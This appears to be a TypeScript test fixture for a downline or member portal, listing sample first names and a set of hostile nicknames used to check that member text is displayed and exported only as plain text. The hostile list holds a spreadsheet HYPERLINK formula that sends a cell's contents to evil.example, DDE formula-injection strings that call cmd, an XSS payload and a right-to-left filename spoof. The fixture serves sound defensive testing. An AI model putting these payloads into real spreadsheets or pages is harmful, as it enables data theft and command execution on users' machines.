/** First parts of account names; a number follows. */
export const firstNames =
  'ana bela bruno caio carla dario diego elena emil fabio gita hana hugo ines ivan julia karim lena lucas marta milo nadia nilo olga paulo petra rafa rita sara simon tania tiago uma vera vitor wanda xenia yara zeca zoe'.split(
    ' ',
  );

/** Nicknames that a hostile member would choose; every text of a downline is shown and exported as text only. */
export const hostileNicknames = [
  '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
  '<img src=x onerror="alert(1)">',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\u202Egnp.exe',
  "-2+3+cmd|' /C calc'!A0",
  '+1234 "quoted", comma',
  '\tTab first',
  '{{account}} $t(portal:logout)',
  `Long ${'name '.repeat(40)}end`,
];
